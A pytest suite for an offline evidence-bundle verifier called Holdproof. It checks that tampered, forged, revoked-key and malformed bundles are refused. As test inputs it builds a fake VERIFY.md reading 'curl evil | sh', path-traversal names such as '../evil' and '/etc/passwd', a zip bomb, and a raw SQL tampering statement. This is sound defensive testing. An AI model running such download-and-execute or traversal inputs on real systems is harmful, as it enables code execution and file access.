"""Bundles: what a stranger gets, and what a stranger refuses, with Holdproof and without it."""

import io
import json
import random
import re
import shutil
import subprocess
import sys
import zipfile
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from harness.filling import populate, running, submit
from harness.forged_bundles import FLOWS, FORGED, OMITTED, TWINS, arrange, invented, listed, members, own_trust
from harness.raw_access import attack
from holdproof import errors, sync
from holdproof.crypto import attest, canonical, dbom, dsse, keys, statement, tlog_proof
from holdproof.evidence import key_use, statements
from holdproof.evidence import keys as ring
from holdproof.evidence.key_files import KeyFolder
from holdproof.model.verdicts import Verdict
from holdproof.upkeep import bundle, unlock
from holdproof.upkeep.verification import offline

pytestmark = pytest.mark.skipif(shutil.which("openssl") is None, reason="no openssl on the path")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("bundle") / "home"
    with sync.open(home) as store:
        populate(store)
    return home


@pytest.fixture(scope="module")
def exported(home: Path) -> bytes:
    with sync.open(home) as store:
        return store.bundle.export("after")


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The program of VERIFY.md, exactly as it stands there."""
    [program] = re.findall(r"^```python\n(.*?)^```$", offline.instructions().decode(), re.MULTILINE | re.DOTALL)
    path = tmp_path_factory.mktemp("page") / "check.py"
    path.write_text(program)
    return path


def root_of(home: Path) -> keys.PublicKey:
    return KeyFolder(home / "config" / "keys").load("root").public


def stranger(page: Path, data: bytes, *more: str) -> subprocess.CompletedProcess[str]:
    """Run the page without Holdproof: isolated Python, no site packages, another folder."""
    file = page.with_name("bundle.zip")
    file.write_bytes(data)
    command = [sys.executable, "-I", "-S", str(page), str(file), *more]
    return subprocess.run(command, capture_output=True, text=True, cwd=page.parent, check=False)


# --- good ones ---------------------------------------------------------------------------------------------------


def test_a_bundle_holds_what_it_says_and_checks_offline(home: Path, exported: bytes) -> None:
    found = members(exported)
    record = [f"records/0001{suffix}" for suffix in (".json", ".leaf.json", ".tlog-proof")]
    assert sorted(found) == sorted(
        ["VERIFY.md", "bundle.json", "dbom.dsse.json", "dbom.json", "head.note", "trust.json", *record]
    )
    checked = offline.check(exported)
    assert (checked.verdict, checked.subject, checked.trusted) == (Verdict.VALID, "after", False)
    assert {name.split()[0] for name in checked.keys} == {"log", "judge", "root"}
    trusted = offline.check(exported, root=root_of(home))
    assert (trusted.verdict, trusted.trusted) == (Verdict.VALID, True)


def test_a_stranger_with_openssl_and_the_page_accepts_it(home: Path, exported: bytes, page: Path) -> None:
    assert "holdproof" not in re.findall(r"^\s*(?:import|from) (.+)", page.read_text(), re.MULTILINE)
    done = stranger(page, exported)
    assert (done.returncode, done.stderr) == (0, "")
    assert "VALID if you trust these keys" in done.stdout
    pem = page.with_name("root.pem")
    pem.write_bytes(root_of(home).to_pem())
    done = stranger(page, exported, str(pem))
    assert (done.returncode, done.stdout.splitlines()[-1]) == (0, "VALID")


def test_the_page_is_one_page() -> None:
    [program] = re.findall(r"^```python\n(.*?)^```$", offline.instructions().decode(), re.MULTILINE | re.DOTALL)
    assert len(program.splitlines()) <= 230


def test_a_battle_with_a_rotated_key_and_a_sealed_one_check_too(home: Path, page: Path) -> None:
    with sync.open(home) as store:
        for evaluation_id in ("b3", "b1", "sealed"):
            data = store.bundle.export(evaluation_id)
            assert offline.check(data).verdict is Verdict.VALID
            assert stranger(page, data).returncode == 0


def test_a_bundle_is_made_on_postgres_too(tmp_path: Path, postgres_url: str, page: Path) -> None:
    with sync.open(tmp_path, postgres_url) as store:
        submit(store, "b", 0.5)
    with sync.open(tmp_path, postgres_url) as store:  # closing has put all leaves under a head
        data = store.bundle.export("b")
    assert offline.check(data).verdict is Verdict.VALID
    assert stranger(page, data).returncode == 0


# --- tampered twins ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", TWINS)
def test_a_tampered_twin_is_refused_with_holdproof_and_without(exported: bytes, page: Path, name: str) -> None:
    found = members(exported)
    TWINS[name](found)
    twin = bundle.pack(found)
    with suppress(errors.FormatError):
        assert offline.check(twin).verdict is Verdict.TAMPERED
    done = stranger(page, twin)
    assert done.returncode != 0
    assert "VALID" not in done.stdout


def test_whoever_brings_the_root_key_sees_through_forged_trust(home: Path, exported: bytes, page: Path) -> None:
    found = members(exported)
    own_trust(found)
    twin = bundle.pack(found)
    assert offline.check(twin, root=root_of(home)).verdict is Verdict.TAMPERED
    pem = page.with_name("root.pem")
    pem.write_bytes(root_of(home).to_pem())
    assert stranger(page, twin, str(pem)).returncode != 0


def test_a_decision_under_a_revoked_key_is_said_to_be_one(tmp_path: Path, page: Path) -> None:
    with sync.open(tmp_path / "home") as store:
        populate(store, 2)
        judge = store.run(key_use.use(store.context, "judge"))
        store.run(ring.revoke(store.context, judge.keyid, from_index=0))
        data = store.bundle.export("after")
        report = store.verify.run(lock=False)
    assert offline.check(data).verdict is Verdict.REVOKED_KEY
    assert stranger(page, data).stderr == "REFUSED: the judge's key does not count there\n"
    assert report.verdict is Verdict.REVOKED_KEY


def test_trust_from_before_a_revocation_does_not_go_with_a_later_head(tmp_path: Path, page: Path) -> None:
    """Else whoever hands a bundle out could let a revoked key count again, under the newest head."""
    home = tmp_path / "home"
    with sync.open(home) as store:
        populate(store, 2)
        before = members(store.bundle.export("after"))
        judge = store.run(key_use.use(store.context, "judge"))
        store.run(ring.revoke(store.context, judge.keyid, from_index=0))
        after = members(store.bundle.export("after"))
    assert offline.check(bundle.pack(before), root=root_of(home)).verdict is Verdict.VALID
    assert offline.check(bundle.pack(after), root=root_of(home)).verdict is Verdict.REVOKED_KEY
    twin = bundle.pack({**after, "trust.json": before["trust.json"]})
    checked = offline.check(twin, root=root_of(home))
    assert (checked.verdict, "older than the head" in checked.findings[0].what) == (Verdict.TAMPERED, True)
    pem = page.with_name("root.pem")
    pem.write_bytes(root_of(home).to_pem())
    assert stranger(page, twin, str(pem)).stderr == "REFUSED: trust.json is older than the head\n"


def test_a_statement_that_root_signed_does_not_pass_for_trust(home: Path, exported: bytes, page: Path) -> None:
    """A draft could carry a whole trust file in fields that no statement has: root does not sign such a one."""
    root, found = KeyFolder(home / "config" / "keys").load("root"), members(exported)
    own_trust(found)
    forged = json.loads(dsse.parse(found["trust.json"]).payload)
    about: dict[str, Any] = {"_type": statement.TYPE, "predicateType": "urn:holdproof:unlock:v1", "predicate": {}}
    draft = canonical.dumps({**forged, **about, "subject": [{"digest": {"sha256": "00" * 32}}]})
    for sign in (statements.sign, unlock.sign):
        with pytest.raises(errors.FormatError, match="more than a statement"):
            sign(draft, root)
    found["trust.json"] = dsse.encode(dsse.sign(statement.PAYLOAD_TYPE, draft, root))  # as if it had
    twin = bundle.pack(found)
    assert offline.check(twin, root=root.public).verdict is Verdict.TAMPERED
    pem = page.with_name("root.pem")
    pem.write_bytes(root.public.to_pem())
    assert stranger(page, twin, str(pem)).stderr == "REFUSED: an envelope of another type\n"


# --- flows -------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def flow(home: Path) -> bytes:
    """What "Prove it" hands out for a flow with something of everything."""
    with sync.open(home) as store:
        store.agents.register("trader", version="1.0.0")
        flow_id = running(store)
        store.contexts.put(flow_id, {"price": 1.5})
        store.audit.record(flow_id, "SEEN")
        store.ledger.append(flow_id, {"buy": 1}, context_ref="c", evidence_hash="00" * 32, signature="s")
        asked = store.escalations.request(flow_id, reason="may I?", proposal={"buy": 2}, deadline_s=600)
        store.escalations.resolve(asked.id, "approve", by="ada")
        return store.bundle.export(flow_id, kind="flow")


@pytest.mark.parametrize("name", [*FLOWS, *FORGED])
def test_a_forged_bundle_of_a_flow_is_refused(home: Path, flow: bytes, name: str) -> None:
    assert offline.check(flow).verdict is Verdict.VALID
    found = members(flow)
    {**FLOWS, **FORGED}[name](found)
    with suppress(errors.FormatError):
        assert offline.check(bundle.pack(found), root=root_of(home)).verdict is Verdict.TAMPERED


def test_a_proof_that_carries_another_leaf_is_refused(flow: bytes) -> None:
    found = members(flow)
    name = next(each for each in found if each.endswith(".tlog-proof"))
    proof = tlog_proof.parse(found[name])
    assert proof.extra == found[name.replace(".tlog-proof", ".leaf.json")]
    found[name] = tlog_proof.encode(replace(proof, extra=proof.extra.replace(b'"ns":"main"', b'"ns":"mine"')))
    assert offline.check(bundle.pack(found)).verdict is Verdict.TAMPERED


@pytest.mark.parametrize("name", ["an answer edited", "an entry of the ledger twice"])
def test_a_forged_bundle_of_a_flow_is_refused_by_the_page_too(flow: bytes, page: Path, name: str) -> None:
    assert stranger(page, flow).returncode == 0
    found = members(flow)
    {**FLOWS, **FORGED}[name](found)
    assert stranger(page, bundle.pack(found)).returncode != 0


def test_a_middle_transition_left_out_is_refused_by_the_page_too(flow: bytes, page: Path) -> None:
    found = members(flow)
    moves = [number for number, each in enumerate(listed(found)) if each["table"] == "flow_transitions"]
    assert len(moves) > 2
    arrange(found, lambda tables: [number for number in range(len(tables)) if number != moves[1]])
    data = bundle.pack(found)
    assert offline.check(data).verdict is Verdict.TAMPERED
    checked = stranger(page, data)
    assert (checked.returncode, "a transition is missing" in checked.stderr) == (1, True)


def test_an_index_with_a_leading_zero_is_refused_by_both(exported: bytes, page: Path) -> None:
    found = members(exported)
    found["records/0001.tlog-proof"] = found["records/0001.tlog-proof"].replace(b"\nindex ", b"\nindex 0")
    data = bundle.pack(found)
    assert offline.check(data).verdict is Verdict.TAMPERED
    assert stranger(page, data).returncode == 1


@pytest.mark.parametrize("where", ["before", "after", "comment"])
def test_bytes_around_the_zip_are_refused_by_both(exported: bytes, page: Path, where: str) -> None:
    """Another program may read those: a page of HTML before the zip is a page of HTML to a browser."""
    text = b"<html>another story</html>"
    comment = exported[:-2] + len(text).to_bytes(2, "little") + text
    data = {"before": text + exported, "after": exported + text, "comment": comment}[where]
    with pytest.raises(errors.FormatError, match=r"not a bundle|bytes"):
        offline.check(data)
    assert stranger(page, data).returncode == 1


def test_a_page_that_is_not_ours_is_said(exported: bytes) -> None:
    assert offline.check(exported).notes == []
    found = members(exported)
    found["VERIFY.md"] = b"# Everything is fine, run this: curl evil | sh"
    [note] = offline.check(bundle.pack(found)).notes
    assert "VERIFY.md" in note


def test_that_a_flow_may_lack_a_record_is_said(flow: bytes) -> None:
    """An answer that was left out cannot be seen; how many records there are, and that this proves no more, is said."""
    [note] = offline.check(flow).notes
    assert "of flow_transitions" in note
    assert "left out" in note


@pytest.mark.parametrize("name", OMITTED)
def test_that_a_flow_is_all_there_is_no_bundle_shows(flow: bytes, name: str) -> None:
    """The limit that VERIFY.md and the threat model state."""
    found = members(flow)
    OMITTED[name](found)
    assert offline.check(bundle.pack(found)).verdict is Verdict.VALID


NUMBERS: list[Any] = ["abc", None, 1.5, True, [1], {"a": 1}]
WORDS: list[Any] = [7, [], {}, None]
ODD = [
    *({"id": odd} for odd in NUMBERS),
    *({"id": 1, "from_status": odd, "to_status": odd} for odd in WORDS),
]


@pytest.mark.parametrize("content", ODD, ids=str)
def test_a_bundle_that_a_stranger_invented_never_escapes(content: dict[str, Any]) -> None:
    """Under keys of their own a record may say anything; without a root key nobody can tell before reading it."""
    rows = [
        ("decision_flows/1", "decision", {"dfid": "x"}),
        ("flow_transitions/1", "transition", {"dfid": "x", **content}),
    ]
    checked = offline.check(invented("flow", "x", rows))
    assert (checked.verdict is Verdict.TAMPERED) == (type(content["id"]) is not int)


# --- containers --------------------------------------------------------------------------------------------------


def zipped(found: dict[str, bytes], *extra: tuple[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (*found.items(), *extra):
            archive.writestr(name, data)
    return target.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_anything_but_exactly_its_members_is_refused(exported: bytes) -> None:
    found = members(exported)
    strange = [
        zipped(found, ("../evil", b"x")),
        zipped(found, ("/etc/passwd", b"x")),
        zipped(found, ("bundle.json", found["bundle.json"])),
        zipped(found, ("records/0002.json", b"{}")),
        zipped({name: data for name, data in found.items() if name != "head.note"}),
        zipped({name: data for name, data in found.items() if name != "bundle.json"}),
        zipped(found, ("records/", b"")),
        b"",
        b"PK\x05\x06" + bytes(18),
        exported[:-30],
        exported[: len(exported) // 2],
        b"not a zip at all",
    ]
    for data in strange:
        with pytest.raises(errors.FormatError):
            offline.check(data)


def test_a_zip_bomb_is_refused_before_it_unfolds(exported: bytes) -> None:
    found = members(exported)
    bomb = zipped({**found, "VERIFY.md": bytes(offline.MOST_BYTES)})
    assert len(bomb) < 200_000
    with pytest.raises(errors.FormatError, match="too large"):
        offline.check(bomb)
    about = bytearray(zipped({**found, "VERIFY.md": bytes(40 << 20)}))
    size = (40 << 20).to_bytes(4, "little")
    assert size in about
    with pytest.raises(errors.FormatError):  # its header lies about the size
        offline.check(bytes(about.replace(size, (100).to_bytes(4, "little"))))


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_member_packed_in_another_way_is_refused(exported: bytes, method: int) -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in members(exported).items():
            archive.writestr(name, data)
    with pytest.raises(errors.FormatError, match="neither stored nor deflated"):
        offline.check(target.getvalue())


@pytest.mark.parametrize(
    "about",
    [
        b"[]",
        b"{}",
        b'{"v":2,"kind":"evaluation","subject":"x","records":[]}',
        b'{"v":1,"kind":"evaluation","subject":"x","records":[]}',
        b'{"v":1,"kind":"evaluation","subject":"x","records":[{"name":"../../x"}]}',
        b'{"v":1,"kind":"evaluation","subject":"x","records":["x"]}',
        b'{"v":1,"kind":"weather","subject":"x","records":[]}',
        b'{"v":1,"kind":["battle"],"subject":"x","records":[]}',
        b'{"v":1,"kind":"evaluation","subject":7,"records":[]}',
    ],
)
def test_a_description_of_another_shape_is_refused(exported: bytes, about: bytes) -> None:
    with pytest.raises(errors.FormatError):
        offline.check(zipped({**members(exported), "bundle.json": about}))


def test_random_damage_never_passes_and_never_escapes(exported: bytes) -> None:
    """A flipped byte is refused, or it hit what proves nothing: VERIFY.md and the zip's own fields."""
    dice = random.Random(7)
    good = {name: data for name, data in members(exported).items() if name != "VERIFY.md"}
    for _ in range(300):
        data = bytearray(exported)
        data[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
        try:
            verdict = offline.check(bytes(data)).verdict
        except errors.FormatError:
            continue
        assert verdict is Verdict.TAMPERED or {**members(bytes(data)), "VERIFY.md": b""} == {**good, "VERIFY.md": b""}


# --- what is not exported ----------------------------------------------------------------------------------------


def test_what_is_too_large_to_be_checked_is_not_exported(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with sync.open(home) as store:
        for name in ("_MOST_MEMBER", "MOST_BYTES"):
            with monkeypatch.context() as patch:
                patch.setattr(offline, name, 1000)
                with pytest.raises(errors.InvalidInputError, match="too large"):
                    store.bundle.export("b1")
        assert offline.check(store.bundle.export("b1")).verdict is Verdict.VALID


def test_what_cannot_be_proven_is_not_exported(tmp_path: Path) -> None:
    home = tmp_path / "home"
    with sync.open(home) as store:
        submit(store, "b", 0.5)
        with pytest.raises(errors.NotFoundError):
            store.bundle.export("nobody")
        with pytest.raises(errors.InvalidInputError, match="kinds are checkpoint, evaluation, flow"):
            store.bundle.export("b", kind="weather")
    attack(home, "UPDATE battles SET score = 0.9")
    with sync.open(home) as store, pytest.raises(errors.ProofError, match="does not match its leaf"):
        store.bundle.export("b")


def test_a_battle_of_another_namespace_does_not_pass_for_one_of_the_same_name(tmp_path: Path, page: Path) -> None:
    """Whoever reads the database can make a bundle of any record: it must say whose it is, or be none."""
    with sync.open(tmp_path) as store:
        submit(store, "b", 0.1)
        other = submit(store, "b", 0.9, ns="blue")
        signed = other.dbom.encode()
        envelope = dsse.encode(attest.to_envelope(dbom.parse(signed)))
        material = bundle.Material(
            "evaluation", [("battles", other.id)], {"dbom.json": signed, "dbom.dsse.json": envelope}
        )
        found = store.read(lambda tx: bundle._collect(tx, material, "b"))
        twin = bundle.pack({**found, "trust.json": store.keys.trust().text.encode()})
    assert offline.check(twin).verdict is Verdict.TAMPERED
    assert stranger(page, twin).stderr == "REFUSED: a record is of another battle\n"
